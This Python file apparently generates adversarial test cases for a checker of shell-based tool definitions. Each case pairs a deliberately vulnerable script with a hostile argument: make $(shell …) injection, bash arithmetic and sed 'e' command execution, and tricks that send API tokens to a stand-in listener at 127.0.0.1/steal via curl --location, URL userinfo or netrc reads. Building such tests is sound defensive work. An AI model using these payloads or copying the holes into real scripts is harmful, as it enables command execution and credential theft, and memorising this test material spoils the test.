# Round twenty-nine attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEC, REDIR).
import textwrap


def R(name, cls, desc, argdefs, script, args, why, secrets="", head="", **extra):
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\nargs:\n" % (name.replace("-", "_"), desc)
    for k, v in argdefs.items():
        y += "  %s: %s\n" % (k, v)
    y += "required: [%s]\n" % ", ".join(req)
    y += secrets + head
    y += "timeout: 30\nsteps:\n  - name: s\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R2(name, cls, desc, argdefs, s1, s2, args, why, secrets="", **extra):
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\nargs:\n" % (name.replace("-", "_"), desc)
    for k, v in argdefs.items():
        y += "  %s: %s\n" % (k, v)
    y += "required: [%s]\n" % ", ".join(req)
    y += secrets
    y += "timeout: 30\nsteps:\n  - name: facts\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(s1).strip() + "\n", "      ")
    y += "  - name: report\n    run: |\n"
    y += textwrap.indent(textwrap.dedent(s2).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


TXT = '{type: string, minLength: 1, maxLength: 300, description: "free text"}'
PATHA = '{type: string, pattern: "^[a-z0-9._][a-z0-9/._-]*$", maxLength: 200, description: "API path under /v1/"}'
BUILD = '{type: string, pattern: "^[0-9]+$", maxLength: 9, description: "build number"}'
MK = "$(shell echo HARBOR-PWNED-$$((6*7)) > /tmp/harbor-r29-pwned)"   # make: $$ is $

# ===================================================== curl config: a follow not spelled location
CF = ("Round twenty-eight accepts a curl config (-K) beside a secret and a URL holding caller data when every line "
      "the script writes to it is one printf of the author's text and secrets, the file named no other way, and none "
      "of its lines is `location` or `location-trusted`. ")
for i, (nm, line, hdr, note) in enumerate([
    ("curl-config-short-L", "-L", 'header = \\"X-Api-Key: %s\\"', "curl reads short options in a config too: the line `-L` is --location."),
    ("curl-config-long-location", "--location", 'header = \\"X-Api-Key: %s\\"', "a config line may carry the option's dashes: `--location` is the same option, not the word `location`."),
    ("curl-config-cluster-fsSL", "-fsSL", 'header = \\"X-Api-Key: %s\\"', "a cluster of short options `-fsSL` on one config line holds -L."),
    ("curl-config-dashed-trusted", "--location-trusted", 'user = \\"app:%s\\"', "`--location-trusted` with dashes: curl follows and resends the Basic credentials (user) to the new host."),
]):
    R(nm, "curl-config-follow", "Fetch a resource of the internal API (config file keeps the token off the command line).",
      {"path": PATHA}, r'''
      cfg="$HARBOR_RUN_DIR/curl.cfg"
      printf -- '%s\n%s\n' > "$cfg"
      curl -sS -K "$cfg" "http://127.0.0.1:18766/v1/$ARG_path"
    '''.replace("'%s\\n%s\\n'", "'" + line + "\\n" + hdr.replace('\\"', '"') + "\\n' \"$API_TOKEN\""),
      {"path": "../" + REDIR}, CF + note + " The URL is the author's host (:18766) whose API redirects /go/HOST/PORT/REST; the "
      "header or credentials follow to the caller's host :18765.", secrets=SEC)

# ===================================================== BASH_REMATCH: the last condition does not decide
RM = ("Round twenty-eight accepts a digits group of BASH_REMATCH read by name in arithmetic (`BASH_REMATCH[1]`) or with "
      "a number for default, after a test that held in an elif or an if's && chain, 'only the last of several "
      "conditions decides'. ")
R("rematch-last-in-subshell", "rematch-last-not-deciding", "Compute the next build number for a release title.",
  {"title": TXT, "build": BUILD}, r'''
  if [[ $ARG_title =~ ^([A-Za-z].*)$ ]] && ( [[ $ARG_build =~ ^([0-9]+)$ ]] ); then
    (( next = BASH_REMATCH[1] + 1 ))
    echo "next build: $next"
  fi
''', {"title": ARITH, "build": "7"}, RM + "The last condition's `=~` runs in a subshell `( … )`: it sets BASH_REMATCH there only; the parent's "
  "BASH_REMATCH is the title's `(.*)` group, the caller's text, evaluated in arithmetic.")
R("rematch-or-in-test", "rematch-last-not-deciding", "Read a version or a free-form ref and print the minor number.",
  {"ref": TXT}, r'''
  minor=0
  if [[ $ARG_ref =~ ^(.*)@(.*)$ || $ARG_ref =~ ^v([0-9]+)\.([0-9]+)$ ]]; then
    (( minor = ${BASH_REMATCH[2]:-0} ))
  fi
  echo "minor: $minor"
''', {"ref": "a@" + ARITH}, RM + "`[[ A || B ]]`: the last condition is B (`([0-9]+)` groups), but bash stops at A when A held, "
  "so group 2 is A's `(.*)` after `@`, the caller's text, in `${BASH_REMATCH[2]:-0}` in arithmetic.")
R("rematch-elif-subshell", "rematch-last-not-deciding", "Parse a release tag (vMAJOR.MINOR or a named release with a build).",
  {"tag": TXT, "build": BUILD}, r'''
  major=0
  if [[ $ARG_tag == main ]]; then
    major=0
  elif [[ $ARG_tag =~ ^(.+)$ ]] && ( [[ $ARG_build =~ ^([0-9]+)$ ]] ); then
    (( major = BASH_REMATCH[1] ))
  fi
  echo "major: $major"
''', {"tag": ARITH, "build": "3"}, RM + "In the elif's && chain the last test runs in a subshell; the parent keeps the tag's `(.+)` group.")
R("rematch-last-function-subshell", "rematch-last-not-deciding", "Compute the next build number for a release title.",
  {"title": TXT, "build": BUILD}, r'''
  is_build() ( [[ $1 =~ ^([0-9]+)$ ]] )
  if [[ $ARG_title =~ ^([A-Za-z].*)$ ]] && is_build "$ARG_build"; then
    (( next = ${BASH_REMATCH[1]:-0} + 1 ))
    echo "next build: $next"
  fi
''', {"title": ARITH, "build": "7"}, RM + "The last condition is a function whose body is a subshell `( … )` (no call between the test and the use: "
  "the call is the test): its `=~` never reaches the caller's BASH_REMATCH, which holds the title's group.")
R("rematch-and-pipeline-stage", "rematch-last-not-deciding", "Compute the next build number for a release title.",
  {"title": TXT, "build": BUILD}, r'''
  if [[ $ARG_title =~ ^([A-Za-z].*)$ ]] && printf '%s\n' "$ARG_build" | { read -r b; [[ $b =~ ^([0-9]+)$ ]]; }; then
    (( next = BASH_REMATCH[1] + 1 ))
    echo "next build: $next"
  fi
''', {"title": ARITH, "build": "7"}, RM + "The last condition is a pipeline; its `=~` runs in the pipeline's last stage, a subshell (no lastpipe): "
  "the parent's BASH_REMATCH is the title's group.")

# ===================================================== ${!a[@]} of an associative array reached by a name reference
FI = ("Round twenty-eight: `for i in \"${!a[@]}\"` of an array no declaration makes associative binds `i` to whole numbers "
      "in the loop's body. ")
R("index-loop-local-nameref", "index-loop-nameref", "Count distinct tags and print a weight.",
  {"tags": '{type: string, minLength: 1, maxLength: 300, description: "comma-separated tags"}'}, r'''
  declare -A counts=()
  IFS=, read -r -a tags <<< "$ARG_tags"
  for t in "${tags[@]}"; do counts[$t]=1; done
  weight() {
    local -n arr=$1
    local w=0
    for i in "${!arr[@]}"; do (( w += i + 1 )); done
    echo "$w"
  }
  echo "distinct tags: ${#counts[@]}, weight: $(weight counts)"
''', {"tags": ARITH}, FI + "`arr` is declared only `local -n` (a name reference), never `-A`; it refers to `counts`, which is associative, "
  "so `${!arr[@]}` are the caller's tags and `(( w += i + 1 ))` evaluates one as arithmetic.")
R("index-loop-declare-nameref", "index-loop-nameref", "Count distinct users and print a weight.",
  {"users": '{type: string, minLength: 1, maxLength: 300, description: "comma-separated user names"}'}, r'''
  declare -A seen=()
  IFS=, read -r -a users <<< "$ARG_users"
  for u in "${users[@]}"; do seen[$u]=1; done
  declare -n list=seen
  w=0
  for i in "${!list[@]}"; do (( w += i )); done
  echo "users: ${#seen[@]} weight: $w"
''', {"users": ARITH}, FI + "`list` is a top-level `declare -n list=seen`: no declaration makes `list` associative, but it is `seen`.")

# ===================================================== cd that the reading does not see
CD = ("Round twenty-eight: a `cd` moves only the commands after it in the same shell; a program that reads code from the "
      "folder it works in (make's Makefile and its includes) may not work in a folder a step may write. ")
STAGE = r'''
  mkdir -p "$HARBOR_RUN_DIR/build"
  cp Makefile "$HARBOR_RUN_DIR/build/Makefile"
  printf 'TARGET := %s\n' "$ARG_target" > "$HARBOR_RUN_DIR/build/local.mk"
  make -s -C "$HARBOR_RUN_DIR/build" -n report > "$HARBOR_RUN_DIR/plan.txt" 2>/dev/null || true
'''
R("cd-cdpath", "cd-unseen", "Build the report for a target in a staging copy, then run the repository's lint.",
  {"target": TXT}, STAGE.replace('  make -s -C "$HARBOR_RUN_DIR/build" -n report > "$HARBOR_RUN_DIR/plan.txt" 2>/dev/null || true\n', '') + r'''
  CDPATH="$HARBOR_RUN_DIR" cd build
  make -s lint
''', {"target": MK}, CD + "Files made from caller data in $HARBOR_RUN_DIR are accepted; `cd build` names a relative folder of the working "
  "folder, but with CDPATH set bash searches $HARBOR_RUN_DIR first: make runs in the staging copy and its `-include local.mk` "
  "reads the caller's `TARGET := $(shell …)`.")
R("cd-exported-cdpath-pushd", "cd-unseen", "Build the report for a target in a staging copy, then run the repository's lint.",
  {"target": TXT}, r'''
  export CDPATH="$HARBOR_RUN_DIR:."
  mkdir -p "$HARBOR_RUN_DIR/build"
  cp Makefile "$HARBOR_RUN_DIR/build/Makefile"
  printf 'TARGET := %s\n' "$ARG_target" > "$HARBOR_RUN_DIR/build/local.mk"
  pushd build > /dev/null
  make -s lint
  popd > /dev/null || true
''', {"target": MK}, CD + "`pushd build` (not `pushd +N`) is a cd; CDPATH, set once at the top, sends it to the run directory's `build`.")
R("cd-lastpipe", "cd-unseen", "Build the report for a target in a staging copy, then run the repository's lint.",
  {"target": TXT}, r'''
  shopt -s lastpipe
  mkdir -p "$HARBOR_RUN_DIR/build"
  cp Makefile "$HARBOR_RUN_DIR/build/Makefile"
  printf 'TARGET := %s\n' "$ARG_target" > "$HARBOR_RUN_DIR/build/local.mk"
  find "$HARBOR_RUN_DIR" -maxdepth 1 -name build -type d | while read -r d; do cd "$d"; done
  make -s lint
''', {"target": MK}, CD + "The cd stands in a pipeline's last stage, which the reading takes for a subshell; with `shopt -s lastpipe` bash runs "
  "it in the script's shell, so make runs in the staging folder.")

# ===================================================== echo's options write the step output
R2("echo-option-escapes-output", "echo-option-output", "Count CHANGELOG lines, then print the number of pages.",
   {"title": TXT, "flags": '{type: string, pattern: "^[a-zA-Z]*$", maxLength: 4, default: "n", description: "echo flags for the title line"}'},
   r'''
   n=$(grep -c . CHANGELOG.md)
   echo "count=$n" >> "$HARBOR_STEP_OUTPUT"
   echo "-$ARG_flags" "title=$ARG_title" >> "$HARBOR_STEP_OUTPUT"
   echo >> "$HARBOR_STEP_OUTPUT"
''', r'''
   (( pages = (STEP_facts_count + 9) / 10 ))
   echo "pages: $pages"
''', {"title": "x\\ncount=" + ARITH, "flags": "e"},
   "Round twenty-eight: echo's options change only what it prints. The step output's `count` is written as `echo \"count=$n\"` of a "
   "count (digits); the title line is caller text without a line break. But the caller's flag makes `-e`, and echo -e prints the "
   "title's `\\n` as a line break: a later `count=x[$(…)]` line, whose value (a key written twice keeps its last line) the next "
   "step reads in arithmetic.")

# ===================================================== read at a pipeline's end, from its own redirection
R("pipeline-read-loop-redirect", "pipeline-read-redirect", "List the API's items (a netrc keeps the token off the command line).",
  {"prefix": '{type: string, pattern: "^[a-z0-9-]*$", maxLength: 40, default: "", description: "item prefix"}'}, r'''
  netrc="$HARBOR_RUN_DIR/netrc"
  printf 'machine 127.0.0.1 login app password %s\n' "$API_TOKEN" > "$netrc"
  git tag --list "v*" | while IFS= read -r line; do
    printf '%s\n' "${line^^}"
  done < "$netrc"
''', {"prefix": "x"}, "Round twenty-eight: what `read` takes at the end of a pipeline holds a secret only when a stage before it does "
  "(`git tag` holds none). The loop's own `< \"$netrc\"` replaces the pipe as its standard input: read takes the netrc line with "
  "the token, printed upper-cased (not the verbatim value the scrubber knows).", secrets=SEC)
R("pipeline-read-group-redirect", "pipeline-read-redirect", "List the API's items (a netrc keeps the token off the command line).",
  {"prefix": '{type: string, pattern: "^[a-z0-9-]*$", maxLength: 40, default: "", description: "item prefix"}'}, r'''
  netrc="$HARBOR_RUN_DIR/netrc"
  printf 'machine 127.0.0.1 login app password %s\n' "$API_TOKEN" > "$netrc"
  git log --format=%s -n 3 | { read -r first; echo "latest: ${first}" | rev; } < "$netrc"
''', {"prefix": "x"}, "Same reading: the group at the pipeline's end reads its own redirection, the netrc, not git's output; `rev` prints it reversed.", secrets=SEC)

# ===================================================== a pattern head with no / after the host
UH = ("Round twenty: a URL arg whose `pattern` starts with the author's scheme and host written literally is a URL of the "
      "author's host for curl and wget (ValueModel.heads). ")
R("url-head-userinfo-curl", "url-head-userinfo", "Fetch a document of the internal API by its URL.",
  {"url": '{type: string, pattern: "^https://api\\\\.example\\\\.com[^ ]*$", maxLength: 300, description: "a URL on api.example.com"}'}, r'''
  curl -sS -H "Authorization: Bearer $API_TOKEN" "$ARG_url"
''', {"url": "https://api.example.com@127.0.0.1/steal"}, UH + "The pattern's head has no `/` after the host: "
  "`https://api.example.com@127.0.0.1/…` makes `api.example.com` the userinfo and 127.0.0.1 (the caller's TLS listener) the host; "
  "the Authorization header goes there.", secrets=SEC, head="pass_env: [SSL_CERT_FILE]\n")
R("url-head-userinfo-wget", "url-head-userinfo", "Fetch a document of the intranet by its URL.",
  {"url": '{type: string, pattern: "^http://intranet\\\\.example\\\\.com[^ ]*$", maxLength: 300, description: "a URL on intranet.example.com"}'}, r'''
  wget -q -O - --max-redirect=0 --header "Authorization: Bearer $API_TOKEN" "$ARG_url" || true
''', {"url": "http://intranet.example.com@127.0.0.1:18765/steal"}, UH + "Same for wget (no redirect followed): the host is after `@`.", secrets=SEC)
R("url-head-port-curl", "url-head-userinfo", "Fetch a document of the internal API by its URL.",
  {"url": '{type: string, pattern: "^http://api\\\\.example\\\\.com[^ /]*/[^ ]*$", maxLength: 300, description: "a URL on api.example.com"}'}, r'''
  curl -sS -H "X-Api-Key: $API_TOKEN" "$ARG_url"
''', {"url": "http://api.example.com:x@127.0.0.1:18765/steal"}, UH + "Even with a `/` required later, what precedes it may hold `:…@HOST:PORT`.", secrets=SEC)

# ===================================================== jq '.[]' + mapfile with prefixItems
R("mapfile-jq-prefixitems", "array-items-prefix", "Sum a release's page counts (first the release's base count, then one per chapter).",
  {"pages": '{type: array, prefixItems: [{type: string, maxLength: 100}], items: {type: string, pattern: "^[0-9]+$"}, minItems: 1, maxItems: 20, description: "base count, then page counts"}'}, r'''
  mapfile -t all < <(jq -r '.[]' <<< "$ARG_pages")
  total=0
  for p in "${all[@]}"; do (( total += p )); done
  echo "total pages: $total"
''', {"pages": [ARITH, "3", "4"]}, skip=True, why="Round twenty-eight: `mapfile -t a < <(jq -r '.[]' <<< \"$ARG_xs\")` of an array arg: each element is one "
  "item, as its items schema says (digits). In JSON Schema 2020-12 `items` applies only after `prefixItems`: element 0 is "
  "free text (no pattern), and `(( total += p ))` evaluates it.")
R("read-loop-jq-prefixitems", "array-items-prefix", "Sum a list of page counts.",
  {"pages": '{type: array, prefixItems: [{type: string, maxLength: 100}], items: {type: string, pattern: "^[0-9]+$"}, minItems: 1, maxItems: 20, description: "a label then page counts"}'}, r'''
  total=0
  while read -r p; do
    (( total += p ))
  done < <(jq -r '.[]' <<< "$ARG_pages")
  echo "total pages: $total"
''', {"pages": [ARITH, "3"]}, skip=True, why="Same reading with a `read -r` loop: the first element is governed by `prefixItems` (free text), not `items`.")

R("curl-config-printf-args-location", "curl-config-follow", "Fetch a resource of the internal API (config file keeps the token off the command line).",
  {"path": PATHA}, r'''
  cfg="$HARBOR_RUN_DIR/curl.cfg"
  printf '%s\n' '--location' "header = \"X-Api-Key: $API_TOKEN\"" > "$cfg"
  curl -sS -K "$cfg" "http://127.0.0.1:18766/v1/$ARG_path"
''', {"path": "../" + REDIR}, CF + "One printf of the author's text and the secret, its lines given as printf's arguments: the line `--location` follows the "
  "author's API redirect, and curl sends the custom header to the caller's host.", secrets=SEC)
R("url-head-group-basic", "url-head-userinfo", "Fetch a document of the internal API or docs site by its URL.",
  {"url": '{type: string, pattern: "^https://(api|docs)\\\\.example\\\\.com.*$", maxLength: 300, description: "a URL on api. or docs.example.com"}'}, r'''
  curl -sS --user "app:$API_TOKEN" "$ARG_url"
''', {"url": "https://docs.example.com@127.0.0.1/steal"}, UH + "With groups of literal alternatives too (`^https://(api|docs)\\.example\\.com`): "
  "nothing after the host says `/`, so `@127.0.0.1` makes the host the caller's; curl's --user Basic credentials go there.",
  secrets=SEC, head="pass_env: [SSL_CERT_FILE]\n")
R("rematch-elif-or-in-test", "rematch-last-not-deciding", "Read a version or a free-form ref and print the major number.",
  {"ref": TXT}, r'''
  major=0
  if [[ $ARG_ref == main ]]; then
    major=0
  elif [[ $ARG_ref =~ ^(.+)@ || $ARG_ref =~ ^v([0-9]+)$ ]]; then
    (( major = BASH_REMATCH[1] ))
  fi
  echo "major: $major"
''', {"ref": ARITH + "@x"}, RM + "In an elif, `[[ A || B ]]`: the last condition B has a digits group 1, but A held first and bash never ran B: "
  "group 1 is A's `(.+)`, the caller's text.")

R("index-loop-nameref-sed", "index-loop-nameref", "Show the CHANGELOG lines named by a list of line labels.",
  {"lines": '{type: string, minLength: 1, maxLength: 300, description: "comma-separated line labels"}'}, r'''
  declare -A want=()
  IFS=, read -r -a picks <<< "$ARG_lines"
  for p in "${picks[@]}"; do want[$p]=1; done
  show() {
    local -n set=$1
    for i in "${!set[@]}"; do sed -n "${i}p" CHANGELOG.md; done
  }
  show want
''', {"lines": SEDE}, FI + "The whole number `i` is put in a sed program (`sed -n \"${i}p\"`, accepted for numbers); through the name reference "
  "`set` it is a key of the associative `want`, the caller's `1e CMD #`, and sed's `e` runs CMD.")
R("rematch-subshell-sed", "rematch-last-not-deciding", "Show a CHANGELOG line for a release title and a line number.",
  {"title": TXT, "line": BUILD}, r'''
  if [[ $ARG_title =~ ^([A-Za-z0-9].*)$ ]] && ( [[ $ARG_line =~ ^([0-9]+)$ ]] ); then
    sed -n "${BASH_REMATCH[1]:-1}p" CHANGELOG.md
  fi
''', {"title": SEDE, "line": "2"}, RM + "Group 1 with a number for default in a sed program: the last test ran in a subshell, so group 1 is the title, "
  "the caller's `1e CMD #`, which sed runs.")
